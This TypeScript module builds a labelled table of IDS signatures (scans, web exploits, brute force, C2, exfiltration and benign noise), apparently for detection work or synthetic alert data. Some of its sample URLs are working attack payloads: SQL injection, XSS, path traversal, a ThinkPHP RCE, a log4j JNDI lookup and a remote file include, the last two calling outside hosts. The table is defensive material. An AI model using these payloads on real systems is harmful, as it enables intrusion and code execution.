/**
 * IDS rule messages (Emerging Threats, GPL and Suricata decoder style) and the class each one's
 * hit belongs to.
 *
 * @module
 */
import type { Label } from "../types.ts";

/** Who talks to whom: attacker to site, site host out to the internet, or a server's answer back in. */
export type Dir = "in" | "out" | "resp";

/** One IDS rule: label, sid, message, classification, protocol, destination ports, direction, sample URLs. */
export interface Sig {
  label: Label;
  sid: number;
  msg: string;
  cls: string;
  proto: "TCP" | "UDP" | "ICMP";
  ports: number[];
  dir: Dir;
  urls?: string[];
}

/** Suricata classification.config priorities. */
export const CLASS_PRIO: Record<string, number> = {
  "Attempted Information Leak": 2,
  "Detection of a Network Scan": 3,
  "Web Application Attack": 1,
  "Attempted Administrator Privilege Gain": 1,
  "Attempted User Privilege Gain": 1,
  "A Network Trojan was detected": 1,
  "Potentially Bad Traffic": 2,
  "Potential Corporate Privacy Violation": 1,
  "Misc activity": 3,
  "Generic Protocol Command Decode": 3,
  "Not Suspicious Traffic": 3,
  "Unknown Traffic": 3,
  "Successful Administrator Privilege Gain": 1,
  "Malware Command and Control Activity Detected": 1,
  "Misc Attack": 2,
  "Executable code was detected": 1,
  "Information Leak": 2,
  "Domain Observed Used for C2 Detected": 1,
  "Device Retrieving External IP Address Detected": 2,
};

/** label|sid|message|classification|proto|ports|dir|urls (space separated). */
const ROWS = `
recon_scan|2001219|ET SCAN Potential SSH Scan|Attempted Information Leak|TCP|22|in|
recon_scan|2009582|ET SCAN NMAP -sS window 1024|Attempted Information Leak|TCP|22,80,443,445,3389,8080|in|
recon_scan|2000537|ET SCAN NMAP -sO|Attempted Information Leak|TCP|0|in|
recon_scan|2010936|ET SCAN Suspicious inbound to Oracle SQL port 1521|Potentially Bad Traffic|TCP|1521|in|
recon_scan|2010937|ET SCAN Suspicious inbound to mySQL port 3306|Potentially Bad Traffic|TCP|3306|in|
recon_scan|2010935|ET SCAN Suspicious inbound to MSSQL port 1433|Potentially Bad Traffic|TCP|1433|in|
recon_scan|2010939|ET SCAN Suspicious inbound to PostgreSQL port 5432|Potentially Bad Traffic|TCP|5432|in|
recon_scan|2002911|ET SCAN Potential VNC Scan 5900-5920|Attempted Information Leak|TCP|5900,5901,5902|in|
recon_scan|2001569|ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection|Misc activity|TCP|445|in|
recon_scan|2001972|ET SCAN Behavioral Unusually fast Terminal Server Traffic Potential Scan or Infection (Inbound)|Misc activity|TCP|3389|in|
recon_scan|2100469|GPL SCAN PING NMAP|Attempted Information Leak|ICMP|0|in|
benign|2100402|GPL ICMP_INFO Destination Unreachable Port Unreachable|Misc activity|ICMP|0|in|
recon_scan|2024364|ET SCAN Possible Nmap User-Agent Observed|Web Application Attack|TCP|80,443,8080,8443,8000|in|/ /nmaplowercheck1702548753 /HNAP1 /evox/about /sdk
recon_scan|2009358|ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)|Attempted Information Leak|TCP|80,443,8080,8443,8000|in|/ /robots.txt /.git/HEAD
recon_scan|2018489|ET SCAN NMAP OS Detection Probe|Attempted Information Leak|TCP|22,80,443|in|
recon_scan|2027401|ET SCAN Masscan Scanner Detected|Detection of a Network Scan|TCP|80,443,3389,8080|in|
recon_scan|2030011|ET SCAN ZMap Scanner Observed (Inbound)|Detection of a Network Scan|TCP|80,443,22,23|in|
recon_scan|2002992|ET SCAN Rapid SNMP Requests Potential Scan|Attempted Information Leak|UDP|161|in|
recon_scan|2101411|GPL SNMP public access udp|Attempted Information Leak|UDP|161|in|
recon_scan|2100480|GPL ICMP_INFO PING speedera|Misc activity|ICMP|0|in|
recon_scan|2008578|ET SCAN Sipvicious Scan|Attempted Information Leak|UDP|5060|in|
recon_scan|2011766|ET SCAN Sipvicious User-Agent Detected (friendly-scanner)|Attempted Information Leak|UDP|5060,5061|in|
recon_scan|2023753|ET SCAN MS Terminal Server Traffic on Non-standard Port|Attempted Administrator Privilege Gain|TCP|3390,33389,13389|in|
benign|2210050|SURICATA STREAM pkt seen on wrong thread|Generic Protocol Command Decode|TCP|445|in|
web_scan|2002677|ET SCAN Nikto Web App Scan in Progress|Web Application Attack|TCP|80,443,8080,8443,8000|in|/cgi-bin/test-cgi /admin/config.php /phpinfo.php /.htpasswd /examples/jsp/snp/snoop.jsp
web_scan|2008186|ET SCAN DirBuster Web App Scan in Progress|Web Application Attack|TCP|80,443,8080,8443,8000|in|/backup/ /admin/ /old/ /test.php
web_scan|2017015|ET SCAN WPScan User Agent|Web Application Attack|TCP|80,443,8080,8443,8000|in|/wp-content/plugins/revslider/readme.txt /wp-json/wp/v2/users /xmlrpc.php /readme.html
web_scan|2011720|ET SCAN Suspicious User-Agent Containing Nikto|Web Application Attack|TCP|80,443,8080,8443,8000|in|/ /sitemap.xml
web_scan|2028439|ET SCAN Gobuster User-Agent|Web Application Attack|TCP|80,443,8080,8443,8000|in|/dev /uploads /.svn/entries
web_scan|2034157|ET SCAN ffuf Web Fuzzer User-Agent|Web Application Attack|TCP|80,443,8080,8443,8000|in|/FUZZ /api/v1/ /.env.bak
web_scan|2101201|GPL WEB_SERVER 403 Forbidden|Attempted Information Leak|TCP|80,443|resp|
web_scan|2101852|GPL WEB_SERVER robots.txt access|Attempted Information Leak|TCP|80,443,8080,8443,8000|in|/robots.txt
web_scan|2100882|GPL WEB_SERVER calendar access|Attempted Information Leak|TCP|80,443,8080,8443,8000|in|/cgi-bin/calendar
web_exploit|2101122|GPL WEB_SERVER /etc/passwd|Attempted Information Leak|TCP|80,443,8080,8443,8000|in|/../../../../etc/passwd
web_scan|2017627|ET WEB_SERVER Possible Nuclei Scanner Activity|Web Application Attack|TCP|80,443,8080,8443,8000|in|/.git/config /actuator/env /server-status
web_scan|2031502|ET SCAN Request to Sensitive Config File (.env)|Attempted Information Leak|TCP|80,443,8080,8443,8000|in|/.env /laravel/.env /app/.env
web_scan|2020912|ET SCAN Acunetix Version Scanner|Web Application Attack|TCP|80,443,8080,8443,8000|in|/acunetix-wvs-test-for-some-inexistent-file
web_exploit|2008538|ET SCAN Sqlmap SQL Injection Scan|Attempted Information Leak|TCP|80,443,8080,8443,8000|in|/product.php?id=1%20AND%201%3D1 /item?id=2%27%20AND%20SLEEP(5)--%20-
web_exploit|2006446|ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT|Web Application Attack|TCP|80,443,8080,8443,8000|in|/news.php?id=-1+UNION+SELECT+1,2,concat(user,0x3a,password)+FROM+users--
web_exploit|2011042|ET WEB_SERVER MYSQL SELECT CONCAT SQL Injection Attempt|Web Application Attack|TCP|80,443,8080,8443,8000|in|/cat.php?id=1%20and%20extractvalue(1,concat(0x7e,version()))
web_exploit|2009714|ET WEB_SERVER Script tag in URI Possible Cross Site Scripting Attempt|Web Application Attack|TCP|80,443,8080,8443,8000|in|/search?q=%3Cscript%3Ealert(1)%3C/script%3E
web_exploit|2012887|ET WEB_SERVER /etc/passwd Detected in URI|Web Application Attack|TCP|80,443,8080,8443,8000|in|/index.php?page=../../../../etc/passwd
web_exploit|2019231|ET WEB_SERVER Possible CVE-2014-6271 Attempt|Web Application Attack|TCP|80,443,8080,8443,8000|in|/cgi-bin/status
web_exploit|2034647|ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)|Attempted Administrator Privilege Gain|TCP|80,443,8080,8443,8000|in|/?x=\${jndi:ldap://45.83.64.1:1389/a}
web_exploit|2024043|ET EXPLOIT Possible Apache Struts OGNL Expression Injection (CVE-2017-5638)|Attempted Administrator Privilege Gain|TCP|80,443,8080,8443,8000|in|/struts2-showcase/index.action
web_exploit|2030469|ET EXPLOIT F5 TMUI RCE vulnerability CVE-2020-5902 Attempt M1|Attempted Administrator Privilege Gain|TCP|443|in|/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd
web_exploit|2027094|ET EXPLOIT ThinkPHP RCE Exploitation Attempt|Attempted Administrator Privilege Gain|TCP|80,443,8080,8443,8000|in|/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id
web_exploit|2025576|ET WEB_SERVER Generic PHP Remote File Include|Web Application Attack|TCP|80,443,8080,8443,8000|in|/index.php?file=http://45.9.148.3/shell.txt
web_exploit|2016683|ET WEB_SERVER WebShell Generic - wget http - POST|Web Application Attack|TCP|80,443,8080,8443,8000|in|/uploads/cmd.php
web_exploit|2035010|ET EXPLOIT Spring Cloud Gateway Code Injection Attempt (CVE-2022-22947)|Attempted Administrator Privilege Gain|TCP|8080|in|/actuator/gateway/routes/hacktest
credential_access|2006546|ET SCAN LibSSH Based Frequent SSH Connections Likely BruteForce Attack|Misc activity|TCP|22|in|
credential_access|2001219|ET SCAN Potential SSH Brute Force|Attempted Information Leak|TCP|22,2222|in|
credential_access|2002383|ET SCAN Potential FTP Brute-Force attempt response|Unsuccessful User Privilege Gain|TCP|21|resp|
credential_access|2002994|ET SCAN Rapid IMAP Connections - Possible Brute Force Attack|Misc activity|TCP|143,993|in|
credential_access|2002993|ET SCAN Rapid POP3 Connections - Possible Brute Force Attack|Misc activity|TCP|110,995|in|
credential_access|2010643|ET SCAN Multiple MySQL Login Failures Possible Brute Force Attempt|Attempted User Privilege Gain|TCP|3306|resp|
credential_access|2025115|ET SCAN Possible RDP Brute Force Attempt|Attempted Administrator Privilege Gain|TCP|3389|in|
credential_access|2024920|ET POLICY SMB NTLM Authentication Failure - Possible Brute Force|Potential Corporate Privacy Violation|TCP|445|resp|
credential_access|2036452|ET SCAN LDAP Brute Force Attempt|Attempted User Privilege Gain|TCP|389,636|in|
credential_access|2019876|ET SCAN SSH BruteForce Tool with fake PUTTY version|Misc activity|TCP|22|in|
command_and_control|2028591|ET MALWARE Cobalt Strike Beacon Observed|A Network Trojan was detected|TCP|80,443,8080|out|/ptj /submit.php?id=1942 /ca /__utm.gif
command_and_control|2032749|ET MALWARE Meterpreter or Other Reverse Shell SSL Cert|A Network Trojan was detected|TCP|4444,443,8443|out|
command_and_control|2025644|ET TROJAN Possible Metasploit Payload Common Construct Bind_API (from server)|A Network Trojan was detected|TCP|4444,5555|resp|
command_and_control|2008705|ET ATTACK_RESPONSE Possible /bin/sh Shell Response|Successful Administrator Privilege Gain|TCP|4444,1337,9001,53|out|
command_and_control|2100498|GPL ATTACK_RESPONSE id check returned root|Potentially Bad Traffic|TCP|80,4444,8080|out|
command_and_control|2022082|ET POLICY Possible Linux Shell Script Download via wget|Potentially Bad Traffic|TCP|80,8080|out|/bins.sh /x.sh /.s/i.sh
command_and_control|2013982|ET POLICY Executable and linking format (ELF) file download Over HTTP|Potentially Bad Traffic|TCP|80,8000|resp|/xmrig /mips /kinsing
command_and_control|2024792|ET MALWARE Mirai Variant User-Agent (Outbound)|A Network Trojan was detected|TCP|80,23|out|
command_and_control|2024796|ET POLICY Cryptocurrency Miner Checkin|Potential Corporate Privacy Violation|TCP|3333,4444,14444|out|
command_and_control|2018959|ET POLICY curl User-Agent Outbound to Dotted Quad|Potentially Bad Traffic|TCP|80,8080|out|/payload /s.sh
command_and_control|2027751|ET MALWARE Sliver C2 Implant Checkin|Malware Command and Control Activity Detected|TCP|443,8888|out|
command_and_control|2035451|ET ATTACK_RESPONSE Possible Python Reverse Shell|Successful Administrator Privilege Gain|TCP|4444,9001,443|out|
exfiltration|2027865|ET DNS Excessive DNS TXT Queries - Possible DNS Tunneling|Potentially Bad Traffic|UDP|53|out|
exfiltration|2008470|ET POLICY Iodine DNS Tunnel Activity|Potential Corporate Privacy Violation|UDP|53|out|
exfiltration|2027863|ET POLICY DNSCat2 DNS Tunnel Query|Potential Corporate Privacy Violation|UDP|53|out|
exfiltration|2013121|ET DNS Query for Suspicious Long Subdomain - Possible DNS Exfiltration|Potentially Bad Traffic|UDP|53|out|
exfiltration|2017554|ET POLICY Outbound Large Data Transfer Over SSH (Possible Data Exfiltration)|Potential Corporate Privacy Violation|TCP|22,2222|out|
exfiltration|2032410|ET POLICY File Upload to transfer.sh|Potential Corporate Privacy Violation|TCP|443,80|out|/backup.tar.gz /db.sql.gz
exfiltration|2030822|ET POLICY HTTP POST to Mega.nz File Upload|Potential Corporate Privacy Violation|TCP|443|out|
exfiltration|2023883|ET POLICY Possible Data Exfiltration via Pastebin Upload|Potential Corporate Privacy Violation|TCP|443,80|out|/api/api_post.php
exfiltration|2027120|ET POLICY ICMP Tunnel - Large Echo Request Payload (ptunnel)|Potentially Bad Traffic|ICMP|0|out|
benign|2047122|ET INFO Observed DNS Query to .cloud TLD|Misc activity|UDP|53|out|
benign|2210020|SURICATA STREAM ESTABLISHED packet out of window|Generic Protocol Command Decode|TCP|443,80|resp|
benign|2210045|SURICATA STREAM Packet with invalid ack|Generic Protocol Command Decode|TCP|443|resp|
benign|2230003|SURICATA TLS invalid record type|Generic Protocol Command Decode|TCP|443|out|
benign|2012647|ET POLICY Dropbox.com Offsite File Backup in Use|Potential Corporate Privacy Violation|TCP|443|out|
benign|2016149|ET INFO Session Traversal Utilities for NAT (STUN Binding Request)|Attempted User Privilege Gain|UDP|3478,19302|out|
benign|2013504|ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management|Not Suspicious Traffic|TCP|80|out|/debian/dists/bookworm/InRelease /ubuntu/dists/jammy-updates/InRelease
benign|2013031|ET POLICY Python-urllib/ Suspicious User Agent|Attempted Information Leak|TCP|80,443|out|
benign|2221010|SURICATA HTTP unable to match response to request|Generic Protocol Command Decode|TCP|80|resp|
benign|2200074|SURICATA TCPv4 invalid checksum|Generic Protocol Command Decode|TCP|443|resp|
benign|2260000|SURICATA Applayer Mismatch protocol both directions|Generic Protocol Command Decode|TCP|443,8443|out|
benign|2027758|ET INFO Observed DNS Query to .xyz TLD|Misc activity|UDP|53|out|
benign|2025275|ET INFO Windows OS Submitting USB Metadata to Microsoft|Misc activity|TCP|80|out|
benign|2027390|ET USER_AGENTS Microsoft Device Metadata Retrieval Client User-Agent|Unknown Traffic|TCP|80|out|
benign|2002157|ET POLICY Skype VOIP Checking Version (Startup)|Potential Corporate Privacy Violation|TCP|80|out|
benign|2033966|ET INFO Spotify P2P Client|Misc activity|UDP|57621|out|
benign|2210029|SURICATA STREAM ESTABLISHED invalid ack|Generic Protocol Command Decode|TCP|443|resp|
benign|2200003|SURICATA IPv4 truncated packet|Generic Protocol Command Decode|UDP|443|resp|
`;

/** Every rule, as records. */
export const SIGS: Sig[] = ROWS.trim().split("\n").map((row) => {
  const [label, sid, msg, cls, proto, ports, dir, urls] = row.split("|");
  return {
    label: label as Label,
    sid: Number(sid),
    msg,
    cls,
    proto: proto as Sig["proto"],
    ports: ports.split(",").map(Number),
    dir: dir as Dir,
    urls: urls ? urls.split(" ") : undefined,
  };
});
